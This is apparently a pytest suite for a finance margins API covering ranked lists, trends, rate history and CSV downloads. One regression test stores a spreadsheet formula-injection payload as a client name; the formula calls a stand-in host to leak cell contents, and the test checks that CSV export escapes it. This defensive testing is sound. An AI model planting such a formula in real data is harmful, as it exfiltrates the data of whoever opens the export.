"""Finance's ranked lists, the weekly trend, the rate history and the CSV links over HTTP."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest

from simulation.examples import OMIT, example
from tests.support.http import auth, post
from tests.support.services import Tokens
from tests.support.stack import unique


def _story(
    cid: str, aid: str, am_id: str, client: str, pay: str, bill: str
) -> list[dict[str, Any]]:
    return [
        example("ContractSigned", contract_id=cid, account_manager_id=am_id, client_id=client,
                client_name=f"{client} Ltd", start_date="2026-01-05", end_date="2027-12-31",
                burden_pct="20", msp_fee_pct=OMIT, markup_floor_pct="18",
                conversion_fee_waived_after_hours=OMIT),
        example("AssignmentStarted", contract_id=cid, assignment_id=aid, pay_rate=pay,
                bill_rate=bill, hours_per_week="40", burden_pct=OMIT, start_date="2026-01-05",
                expected_end_date="2027-07-26"),
    ]  # fmt: skip


@pytest.fixture(scope="module")
def seeded(services: Any, api_tokens: Tokens) -> dict[str, str]:
    ids = {"c1": unique("C"), "a1": unique("A"), "c2": unique("C"), "a2": unique("A"),
           "cl1": unique("CL"), "cl2": unique("CL")}  # fmt: skip
    with httpx.Client(base_url=services.url, timeout=60) as http:
        # DESIGN's worked example (60.00 a week), raised on 2026-09-07 to 32.00 / 40.00 (64.00).
        events = _story(ids["c1"], ids["a1"], api_tokens.am_id, ids["cl1"], "30.00", "37.50")
        events.append(
            example(
                "RatesAdjusted",
                contract_id=ids["c1"],
                assignment_id=ids["a1"],
                pay_rate="32.00",
                bill_rate="40.00",
                effective_date="2026-09-07",
            )
        )
        for e in events:
            assert post(http, api_tokens.am, e).status_code == 201
        # Another manager's client: 20.00 / 30.00, burdened 24.00, 6.00/h, 240.00 a week.
        for e in _story(ids["c2"], ids["a2"], api_tokens.other_am_id, ids["cl2"], "20.00", "30.00"):
            assert post(http, api_tokens.other_am, e).status_code == 201
    return ids


def test_clients_ranked_sorted_and_paged(
    http: httpx.Client, api_tokens: Tokens, seeded: dict[str, str]
) -> None:
    h = auth(api_tokens.finance)
    r = http.get("/v1/margins/clients", params={"as_of": "2026-10-05"}, headers=h).json()
    assert [(x["client_id"], x["weekly_gross_profit"]) for x in r["rows"]] == [
        (seeded["cl2"], "240.00"),
        (seeded["cl1"], "64.00"),
    ]
    assert r["total"] == 2 and r["rows"][1]["name"] == f"{seeded['cl1']} Ltd"
    asc = http.get(
        "/v1/margins/clients",
        headers=h,
        params={"as_of": "2026-10-05", "sort": "margin_pct", "limit": 1, "offset": 1},
    )
    assert [x["client_id"] for x in asc.json()["rows"]] == [seeded["cl2"]]
    bad = http.get("/v1/margins/clients", params={"sort": "drop table"}, headers=h)
    assert bad.status_code == 422


def test_account_managers_ranked_and_scoped(
    http: httpx.Client, api_tokens: Tokens, seeded: dict[str, str]
) -> None:
    params = {"as_of": "2026-10-05"}
    r = http.get("/v1/margins/account-managers", params=params, headers=auth(api_tokens.finance))
    assert [(x["account_manager_id"], x["weekly_gross_profit"], x["contracts_count"])
            for x in r.json()["rows"]] == [(api_tokens.other_am_id, "240.00", 1),
                                            (api_tokens.am_id, "64.00", 1)]  # fmt: skip
    # An account manager's list holds only themself.
    mine = http.get("/v1/margins/account-managers", params=params, headers=auth(api_tokens.am))
    assert [x["account_manager_id"] for x in mine.json()["rows"]] == [api_tokens.am_id]


def test_the_trend_equals_the_portfolio_on_each_week(
    http: httpx.Client, api_tokens: Tokens, seeded: dict[str, str]
) -> None:
    h = auth(api_tokens.finance)
    trend = http.get("/v1/margins/portfolio/trend", params={"as_of": "2026-10-05", "weeks": 6},
                     headers=h).json()  # fmt: skip
    points = [(p["week_ending"], p["weekly_gross_profit"]) for p in trend["points"]]
    assert points == [("2026-08-31", "300.00"), ("2026-09-07", "304.00"),
                      ("2026-09-14", "304.00"), ("2026-09-21", "304.00"),
                      ("2026-09-28", "304.00"), ("2026-10-05", "304.00")]  # fmt: skip
    for day, wgp in points[:2]:
        p = http.get("/v1/margins/portfolio", params={"as_of": day, "limit": 1}, headers=h)
        assert p.json()["weekly_gross_profit"] == wgp
    # Before anything started: zero; the default is 26 weeks ending today.
    early = http.get("/v1/margins/portfolio/trend", params={"as_of": "2026-01-04", "weeks": 1},
                     headers=h).json()  # fmt: skip
    assert early["points"] == [
        {"week_ending": "2026-01-04", "active_assignments": 0, "weekly_gross_profit": "0.00"}
    ]
    assert len(http.get("/v1/margins/portfolio/trend", headers=h).json()["points"]) == 26
    # An account manager's trend is of their own contracts.
    mine = http.get("/v1/margins/portfolio/trend", params={"as_of": "2026-10-05", "weeks": 1},
                    headers=auth(api_tokens.am)).json()  # fmt: skip
    assert mine["points"][0]["weekly_gross_profit"] == "64.00"


def test_rate_history_and_margin_status(
    http: httpx.Client, api_tokens: Tokens, seeded: dict[str, str]
) -> None:
    h = auth(api_tokens.finance)
    rates = http.get(f"/v1/margins/assignments/{seeded['a1']}/rates", headers=h).json()["rates"]
    seen = [(r["effective_date"], r["pay_rate"], r["bill_rate"], r["markup_pct"]) for r in rates]
    assert seen == [
        ("2026-01-05", "30.00", "37.50", "25.00"),
        ("2026-09-07", "32.00", "40.00", "25.00"),
    ]
    other = http.get(f"/v1/margins/assignments/{seeded['a2']}/rates", headers=auth(api_tokens.am))
    assert other.status_code == 404
    a = http.get(f"/v1/margins/assignments/{seeded['a1']}", params={"as_of": "2026-03-02"},
                 headers=h).json()  # fmt: skip
    assert (a["markup_floor_pct"], a["margin_status"]) == ("18.00", "green")


def test_largest_impacts_of_a_window(
    http: httpx.Client, api_tokens: Tokens, seeded: dict[str, str]
) -> None:
    h = auth(api_tokens.finance)
    params = {"contract_id": seeded["c1"], "sort": "largest"}
    items = http.get("/v1/margin-impacts", params=params, headers=h).json()["margin_impacts"]
    assert [i["delta_weekly_gross_profit"] for i in items] == ["4.00"]
    before = {**params, "until": "2000-01-01"}
    assert http.get("/v1/margin-impacts", params=before, headers=h).json()["margin_impacts"] == []


def test_every_list_downloads_as_csv_from_a_plain_link(
    http: httpx.Client, api_tokens: Tokens, seeded: dict[str, str]
) -> None:
    h = auth(api_tokens.finance)
    for path in ("/v1/margins/clients", "/v1/margins/account-managers",
                 "/v1/margins/portfolio/trend", f"/v1/margins/contracts/{seeded['c1']}",
                 "/v1/margin-impacts"):  # fmt: skip
        r = http.get(path, params={"format": "csv", "as_of": "2026-10-05"}, headers=h)
        assert r.status_code == 200, path
        assert r.headers["content-type"].startswith("text/csv")
        assert r.headers["content-disposition"].startswith("attachment; filename=")
        rows = list(csv.DictReader(io.StringIO(r.text)))
        assert rows, path
    clients = http.get("/v1/margins/clients", params={"as_of": "2026-10-05"},
                       headers={**h, "Accept": "text/csv"})  # fmt: skip
    assert next(csv.DictReader(io.StringIO(clients.text)))["client_id"] == seeded["cl2"]


def test_a_name_a_spreadsheet_would_run_is_downloaded_as_text_and_money_as_numbers(
    http: httpx.Client, api_tokens: Tokens
) -> None:
    """Issue #21: `=HYPERLINK(...)` as a client name went as it was into every CSV."""
    cid, aid, client = unique("C"), unique("A"), unique("CL")
    story = _story(cid, aid, api_tokens.am_id, client, "32.00", "37.50")  # a loss: -36.00 a week
    story[0]["client_name"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    for e in story:
        assert post(http, api_tokens.am, e).status_code == 201
    h = auth(api_tokens.finance)

    r = http.get(f"/v1/margins/clients/{client}", params={"format": "csv", "as_of": "2026-10-05"},
                 headers=h)  # fmt: skip

    [row] = list(csv.DictReader(io.StringIO(r.text)))
    assert row["client_name"] == "'" + story[0]["client_name"]
    assert row["weekly_gross_profit"] == "-36.00"
    # The contract's assignments: a flag reads as in JSON.
    r = http.get(f"/v1/margins/contracts/{cid}", params={"format": "csv"}, headers=h)
    [assignment] = list(csv.DictReader(io.StringIO(r.text)))
    assert (assignment["at_risk"], assignment["client_name"][:2]) == ("false", "'=")


def test_the_trend_as_of_the_calendars_first_weeks_has_only_the_weeks_there_are(
    http: httpx.Client, api_tokens: Tokens
) -> None:
    """Issue #21: `as_of=0001-01-01` was a 500 (`ordinal must be >= 1`)."""
    r = http.get("/v1/margins/portfolio/trend", params={"as_of": "0001-01-15"},
                 headers=auth(api_tokens.finance))  # fmt: skip
    assert r.status_code == 200, r.text
    assert [p["week_ending"] for p in r.json()["points"]] == [
        "0001-01-01",
        "0001-01-08",
        "0001-01-15",
    ]
